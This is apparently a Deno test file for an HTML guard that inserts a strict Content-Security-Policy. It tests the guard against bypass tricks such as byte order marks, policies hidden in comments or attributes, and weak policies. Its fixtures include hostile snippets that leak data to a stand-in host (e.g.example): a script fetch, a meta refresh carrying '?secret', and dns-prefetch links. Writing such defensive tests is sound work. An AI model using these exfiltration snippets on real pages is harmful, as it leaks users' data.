import assert from "node:assert/strict";
import { parse } from "parse5";
import { guardHtml } from "./guard_html.ts";

interface Node {
  readonly nodeName: string;
  readonly attrs?: readonly { readonly name: string; readonly value: string }[];
  readonly childNodes?: readonly Node[];
  readonly content?: Node;
}

function guard(text: string): string {
  return new TextDecoder().decode(guardHtml(new TextEncoder().encode(text)));
}

/** Elements in document order, as a browser builds them. */
function elements(html: string): readonly Node[] {
  const all: Node[] = [];
  const visit = (node: Node): void => {
    if (node.attrs !== undefined) all.push(node);
    for (const child of node.childNodes ?? []) visit(child);
    if (node.content !== undefined) visit(node.content);
  };
  visit(parse(html) as unknown as Node);
  return all;
}

function attribute(node: Node, name: string): string | undefined {
  return node.attrs?.find((each) => each.name === name)?.value;
}

const GUARDED = `
<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-AAAA'; base-uri 'none'; form-action 'none'">
    <title>t</title></head><body><p>data</p></body></html>`;

Deno.test("a page with the report plugin's own policy stays byte for byte as it is", () => {
  assert.equal(guard(GUARDED), GUARDED);
});

const HOSTILE: Readonly<Record<string, string>> = {
  "nothing of its own": "<p>hello</p><script>fetch('//e.example')</script>",
  "a head of its own": "<!doctype html><html><head><script>1</script></head><body></body></html>",
  "a weak policy": GUARDED.replace("default-src 'none'", "default-src *"),
  "something before its policy": GUARDED.replace("<title>", "").replace(
    "<meta name",
    "<script>1</script><meta name",
  ),
  "a policy in a comment": `<!--${GUARDED}--><script>1</script>`,
  "a policy in an attribute": `<!doctype html><html lang="en"><head><meta charset="utf-8">` +
    `<meta name="x" content="<meta http-equiv="><script>1</script>`,
  "another encoding by its first bytes": "\uFEFF<script>1</script>",
  "a space that is none in HTML": GUARDED.replace("<head>", "\u00a0<head>"),
  "two byte order marks": `\uFEFF\uFEFF${GUARDED}`,
  "a known beginning without a policy":
    `<!doctype html><html lang="en"><head><meta charset="utf-8"><script>1</script>`,
};

for (const [name, html] of Object.entries(HOSTILE)) {
  Deno.test(`a page with ${name} gets the kernel's policy before anything that could act`, () => {
    const all = elements(guard(html));
    const policy = all.findIndex((node) =>
      attribute(node, "http-equiv") === "Content-Security-Policy" &&
      attribute(node, "content")!.startsWith("default-src 'none'; style-src 'unsafe-inline'")
    );
    assert.ok(policy >= 0, "there is no policy");
    const before = all.slice(0, policy).map(({ nodeName }) => nodeName);
    assert.deepEqual(before, ["html", "head", "meta"]);
    assert.equal(attribute(all[2]!, "charset"), "utf-8");
  });
}

Deno.test("a page cannot go elsewhere or have names looked up by itself", () => {
  const ways = [
    `<meta http-equiv="refresh" content="0;url=https://e.example/?secret">`,
    `<META HTTP-EQUIV=refresh content="0;url=//e.example">`,
    `<link rel="dns-prefetch" href="//secret.e.example"><LINK rel=preconnect href="//e.example">`,
    `<iframe srcdoc="&lt;link rel=dns-prefetch href=//e.example&gt;"></iframe>`,
  ];
  for (const page of ["", GUARDED]) {
    for (const way of ways) {
      const all = elements(guard(page + way));
      const own = all.filter((node) => attribute(node, "content")?.includes("e.example"));
      assert.ok(own.every((node) => attribute(node, "http-equiv") === undefined), way);
      assert.ok(!all.some(({ nodeName }) => nodeName === "link"), way);
      assert.ok(!all.some((node) => attribute(node, "srcdoc") !== undefined), way);
    }
  }
});

Deno.test("text that names such things reads as before", () => {
  const html = guard(`${GUARDED}<p id="x">http-equiv srcdoc</p>`);
  const text = JSON.stringify(
    parse(html),
    (key, value) => key === "parentNode" ? undefined : value,
  );
  assert.ok(text.includes("http-equiv srcdoc"));
});
